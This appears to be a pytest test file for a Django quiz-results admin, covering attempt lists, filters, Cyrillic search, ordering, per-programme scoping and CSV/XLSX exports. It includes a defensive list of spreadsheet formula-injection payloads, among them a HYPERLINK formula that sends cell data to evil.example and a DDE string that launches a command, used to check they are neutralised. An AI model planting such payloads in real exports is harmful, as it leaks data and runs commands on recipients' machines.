"""The attempt lists and their CSV/XLSX exports: rows, filters, search,
ordering, scoping, and spreadsheet formula injection."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

import openpyxl
import pytest

from courses.models import LearnerProfile
from courses.quiz_admin.spreadsheets import neutralise_formula
from tests.factories import UserFactory

from .conftest import admin_client, take

pytestmark = pytest.mark.django_db


def attempts_url(world, query: str = "") -> str:
    url = reverse("quiz_results:attempts", args=[world.quiz.pk])
    return f"{url}?{query}" if query else url


def rows_of(response) -> list:
    return list(response.context["object_list"])


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body)))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in book.active.iter_rows()]


# --- the list ---------------------------------------------------------------------------


def test_attempts_list_shows_the_quizs_attempts(world):
    response = admin_client(world.trainer).get(attempts_url(world))

    assert response.status_code == 200
    assert {a.pk for a in rows_of(response)} == {
        world.attempt.pk,
        world.other_attempt.pk,
    }
    html = response.content.decode()
    # The name from the learner profile, else the username.
    assert "Шевченко Олена Петрівна" in html
    assert "other" in html
    assert reverse("quiz_results:attempt", args=[world.attempt.pk]) in html
    # Export buttons, the regrade button.
    assert "export=csv" in html and "export=xlsx" in html
    assert reverse("quiz_results:regrade", args=[world.quiz.pk]) in html


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("needs_grading=true", {"attempt"}),
        ("needs_grading=false", {"other_attempt"}),
        ("passed=false", {"attempt", "other_attempt"}),
        ("passed=true", set()),
        ("state=finished", {"attempt", "other_attempt"}),
        ("state=in_progress", set()),
    ],
)
def test_filters(world, query, expected):
    response = admin_client(world.trainer).get(attempts_url(world, query))
    assert {a.pk for a in rows_of(response)} == {
        getattr(world, name).pk for name in expected
    }


def test_filters_apply_to_the_results_fragment_and_the_export(world):
    client = admin_client(world.trainer)
    fragment = client.get(
        reverse("quiz_results:attempts_results", args=[world.quiz.pk])
        + "?needs_grading=true"
    )
    assert [a.pk for a in rows_of(fragment)] == [world.attempt.pk]
    exported = csv_rows(
        client.get(attempts_url(world, "needs_grading=true&export=csv"))
    )
    assert [r["Username"] for r in exported] == ["learner"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("шевченко", {"learner"}),  # Cyrillic, any case (also on SQLite)
        ("ОЛЕНА петрівна", {"learner"}),  # every word, in any field
        ("other", {"other"}),  # username
        ("example.org", {"learner", "other"}),  # e-mail
        ("нікого", set()),
    ],
)
def test_search_by_learner(world, query, expected):
    response = admin_client(world.trainer).get(attempts_url(world, f"q={query}"))
    assert {a.user.username for a in rows_of(response)} == expected


def test_search_never_reaches_another_programme(world):
    response = admin_client(world.trainer).get(attempts_url(world, "q=b_learner"))
    assert rows_of(response) == []


def test_ordering(world):
    third = UserFactory(username="aaa")
    from courses import services

    services.enrolment_create(user=third, programme=world.a.programme)
    LearnerProfile.objects.create(user=third, surname="Антоненко")
    take(third, world.quiz, choice="Рада", essay="")
    client = admin_client(world.trainer)

    by_name = [
        a.user.username
        for a in rows_of(client.get(attempts_url(world, "ordering=learner")))
    ]
    # Surname when there is one, else the username, by code point:
    # other (Latin), Антоненко, Шевченко.
    assert by_name == ["other", "aaa", "learner"]
    reverse_name = [
        a.user.username
        for a in rows_of(client.get(attempts_url(world, "ordering=-learner")))
    ]
    assert reverse_name == list(reversed(by_name))
    by_grade = [
        a.user.username
        for a in rows_of(client.get(attempts_url(world, "ordering=-grade")))
    ]
    # aaa 33.33 % (1 of 3), other 0 %, learner not graded yet (last).
    assert by_grade == ["aaa", "other", "learner"]
    # An unknown ordering falls back to the default and does not fail.
    assert client.get(attempts_url(world, "ordering=user__password")).status_code == 200


# --- exports ----------------------------------------------------------------------------


def test_csv_export_has_the_rows_and_columns(world):
    rows = csv_rows(admin_client(world.trainer).get(attempts_url(world, "export=csv")))

    assert sorted(rows[0]) == sorted(
        [
            "Learner",
            "Username",
            "Attempt",
            "State",
            "Started",
            "Finished",
            "Grade (%)",
            "Passed",
            "Needs grading",
        ]
    )
    by_user = {r["Username"]: r for r in rows}
    assert set(by_user) == {"learner", "other"}
    assert by_user["learner"]["Learner"] == "Шевченко Олена Петрівна"
    assert by_user["learner"]["Needs grading"] == "Yes"
    assert by_user["learner"]["Grade (%)"] == ""
    assert by_user["learner"]["Passed"] == ""  # not known before grading
    assert by_user["other"]["Grade (%)"] == "0.00"
    assert by_user["other"]["Passed"] == "No"
    assert by_user["other"]["State"] == "Finished"
    assert by_user["other"]["Finished"][:4].isdigit()


def test_xlsx_export_has_the_rows(world):
    rows = xlsx_rows(
        admin_client(world.trainer).get(attempts_url(world, "export=xlsx"))
    )
    header = [c.value for c in rows[0]]
    assert header[:3] == ["Learner", "Username", "Attempt"]
    usernames = {row[1].value for row in rows[1:]}
    assert usernames == {"learner", "other"}


def test_exports_contain_only_the_trainers_programme(world):
    client = admin_client(world.other_trainer)
    # Quiz A's export: refused outright.
    assert client.get(attempts_url(world, "export=csv")).status_code == 403
    assert client.get(attempts_url(world, "export=xlsx")).status_code == 403
    # Their queue export: their own learner only.
    rows = csv_rows(client.get(reverse("quiz_results:queue") + "?export=csv"))
    assert [r["Username"] for r in rows] == ["b_learner"]
    own_quiz = csv_rows(
        client.get(
            reverse("quiz_results:attempts", args=[world.quiz_b.pk]) + "?export=csv"
        )
    )
    assert [r["Username"] for r in own_quiz] == ["b_learner"]


def test_queue_export_for_the_trainer(world):
    rows = csv_rows(
        admin_client(world.trainer).get(reverse("quiz_results:queue") + "?export=csv")
    )
    assert [(r["Username"], r["Quiz"], r["Answers to grade"]) for r in rows] == [
        ("learner", world.quiz.title, "1")
    ]


EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
]


@pytest.mark.parametrize("evil", EVIL)
def test_neutralise_formula(evil):
    assert neutralise_formula(evil) == "'" + evil


@pytest.mark.parametrize("safe", ["Шевченко", "learner", "2026-01-01", "", "a=b"])
def test_plain_text_is_left_alone(safe):
    assert neutralise_formula(safe) == safe


def test_formula_injection_is_neutralised_in_exports(world):
    profile = world.learner.learner_profile
    profile.surname, profile.given_name, profile.patronymic = EVIL[0], "", ""
    profile.save()
    world.other_learner.username = EVIL[3]
    world.other_learner.save()
    client = admin_client(world.trainer)

    rows = csv_rows(client.get(attempts_url(world, "export=csv")))
    cells = {r["Learner"] for r in rows} | {r["Username"] for r in rows}
    assert "'" + EVIL[0] in cells
    assert "'" + EVIL[3] in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())

    # XLSX: Wagtail's exporter already stores such cells as text, never as a
    # formula (checked here so an upgrade cannot silently change it).
    xlsx = xlsx_rows(client.get(attempts_url(world, "export=xlsx")))
    names = {row[0].value: row[0] for row in xlsx[1:]}
    assert EVIL[0] in names
    assert names[EVIL[0]].data_type == "s"
    usernames = {row[1].value: row[1] for row in xlsx[1:]}
    assert usernames[EVIL[3]].data_type == "s"


def test_lists_do_not_query_per_row(world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from courses import services

    client = admin_client(world.trainer)
    urls = [
        attempts_url(world),
        attempts_url(world, "export=csv"),
        reverse("quiz_results:queue"),
        reverse("quiz_results:index"),
    ]

    def counts():
        found = []
        for url in urls:
            with CaptureQueriesContext(connection) as ctx:
                response = client.get(url)
                if "export" in url:
                    b"".join(response.streaming_content)
            found.append(len(ctx.captured_queries))
        return found

    counts()  # warm caches (content types, site)
    before = counts()
    for n in range(3):
        user = UserFactory(username=f"more{n}")
        services.enrolment_create(user=user, programme=world.a.programme)
        LearnerProfile.objects.create(user=user, surname=f"Прізвище{n}")
        take(user, world.quiz, choice="Мер", essay="Текст")
    assert counts() == before
